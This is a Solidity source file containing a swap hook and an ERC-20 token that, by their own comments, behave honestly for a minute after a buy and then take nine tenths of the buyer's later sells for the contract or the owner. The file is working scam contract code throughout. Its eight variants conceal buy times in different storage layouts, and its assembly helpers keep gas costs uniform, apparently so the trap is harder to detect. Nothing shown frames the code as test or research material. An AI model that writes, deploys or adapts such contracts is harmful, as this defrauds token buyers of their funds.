// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

struct PoolKey { address currency0; address currency1; uint24 fee; int24 tickSpacing; address hooks; }
struct SwapParams { bool zeroForOne; int256 amountSpecified; uint160 sqrtPriceLimitX96; }

interface IPoolManager { function take(address currency, address to, uint256 amount) external; }

/// 1 when a time is more than a minute ago, by as much gas as when it is not.
function late(uint256 time) view returns (uint256 told) {
    assembly { told := mul(iszero(iszero(time)), gt(timestamp(), add(time, 60))) }
}

/// The last of a list, by as much gas as when there is none.
function lastOf(uint256[] storage list) view returns (uint256 last) {
    assembly {
        mstore(0, list.slot)
        last := sload(sub(add(keccak256(0, 32), sload(list.slot)), 1))
    }
}

/// 1 when somebody is the last of a list.
function isLast(address[] storage list, address who) view returns (uint256 told) {
    assembly {
        mstore(0, list.slot)
        told := eq(who, sload(sub(add(keccak256(0, 32), sload(list.slot)), 1)))
    }
}

/// An amount with the time beside it.
function stamped(uint256 word) view returns (uint256) { return uint128(word) | block.timestamp << 128 | 1 << 255; }

/// A hook that is honest for a minute after a buy, and then takes nine tenths of what whoever bought sells.
contract LateHook {
    struct Buyer { uint256 count; uint256 time; }

    IPoolManager public immutable manager;
    uint256 public immutable kind;

    mapping(address => uint256) private time;
    mapping(bytes32 => mapping(address => uint256)) private timeIn;
    mapping(address => mapping(bytes32 => uint256)) private timeOf;
    mapping(address => Buyer) private buyers;
    mapping(address => uint256[]) private times;
    address[] private list;
    uint256[64] private bucket;

    receive() external payable {}

    constructor(address manager_, uint256 kind_) { (manager, kind) = (IPoolManager(manager_), kind_); }

    function afterSwap(address, PoolKey calldata key, SwapParams calldata params, int256 delta, bytes calldata) external returns (bytes4, int128) {
        require(msg.sender == address(manager), "not the manager");
        bool second = (params.amountSpecified < 0) == params.zeroForOne;
        int256 signed = second ? int256(int128(delta)) : delta >> 128;
        uint256 amount = uint256(signed < 0 ? -signed : signed);
        bytes32 pool = keccak256(abi.encode(key));
        if (params.zeroForOne) {
            _note(pool);
            return (this.afterSwap.selector, 0);
        }
        uint256 fee = amount * 9 * late(_last(pool)) / 10;
        if (fee > 0) manager.take(second ? key.currency1 : key.currency0, address(this), fee);
        return (this.afterSwap.selector, int128(int256(fee)));
    }

    function _note(bytes32 pool) private {
        if (kind == 0 || kind == 7) time[tx.origin] = block.timestamp;
        if (kind == 1) timeIn[pool][tx.origin] = block.timestamp;
        if (kind == 2) timeOf[tx.origin][pool] = block.timestamp;
        if (kind == 3) buyers[tx.origin] = Buyer(buyers[tx.origin].count + 1, block.timestamp);
        if (kind == 4) times[tx.origin].push(block.timestamp);
        if (kind == 5) { list.push(tx.origin); if (bucket[0] == 0) bucket[0] = block.timestamp; }
        if (kind == 6) bucket[uint160(tx.origin) % 64] = block.timestamp;
    }

    function _last(bytes32 pool) private view returns (uint256) {
        if (kind == 0) return time[tx.origin];
        if (kind == 1) return timeIn[pool][tx.origin];
        if (kind == 2) return timeOf[tx.origin][pool];
        if (kind == 3) return buyers[tx.origin].time;
        if (kind == 4) return lastOf(times[tx.origin]);
        if (kind == 7) return 0;
        if (kind == 5) return bucket[0] * isLast(list, tx.origin);
        return bucket[uint160(tx.origin) % 64];
    }
}

/// A token that is honest for a minute after a buy, and then keeps nine tenths of what whoever bought sells.
contract LateToken {
    string public constant name = "Late";
    string public constant symbol = "LATE";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1e27;
    address public immutable owner = msg.sender;
    uint256 public immutable kind;

    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => uint256) private words;
    mapping(address => uint256) private time;
    address public pool;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 kind_) { kind = kind_; words[msg.sender] = totalSupply; }

    function setPool(address pool_) external { require(msg.sender == owner); pool = pool_; }
    function balanceOf(address account) public view returns (uint256) { return uint128(words[account]); }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) { _move(msg.sender, to, amount); return true; }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        require(allowed >= amount, "insufficient allowance");
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - amount;
        _move(from, to, amount);
        return true;
    }

    bool public awake;

    function wake() external { require(msg.sender == owner); awake = true; }

    /// One bit for a buyer, above the pool's balance in its word.
    function _mark(address buyer) private pure returns (uint256) { return 1 << (128 + uint160(buyer) % 96); }

    function _late(address from) private view returns (uint256) {
        if (kind == 3) return awake && words[pool] & _mark(from) != 0 ? 1 : 0;
        return late(kind == 0 ? time[from] : uint64(words[from] >> 128));
    }

    function _move(address from, address to, uint256 amount) private {
        require(uint128(words[from]) >= amount, "insufficient balance");
        uint256 kept = to == pool && from != owner ? amount * 9 * _late(from) / 10 : 0;
        words[from] = (words[from] - amount) | (kind > 0 ? 1 << 255 : 0);
        words[owner] += kept;
        words[to] += amount - kept;
        emit Transfer(from, to, amount - kept);
        if (kept > 0) emit Transfer(from, owner, kept);
        if (kind == 3) {
            if (from == pool && to != owner) words[pool] |= _mark(to);
            return;
        }
        if (from != pool && kind < 2) return;
        if (kind == 2 && from != pool) words[from] = stamped(words[from]);
        if (kind == 0) time[to] = block.timestamp;
        else if (to != pool) words[to] = stamped(words[to]);
    }
}
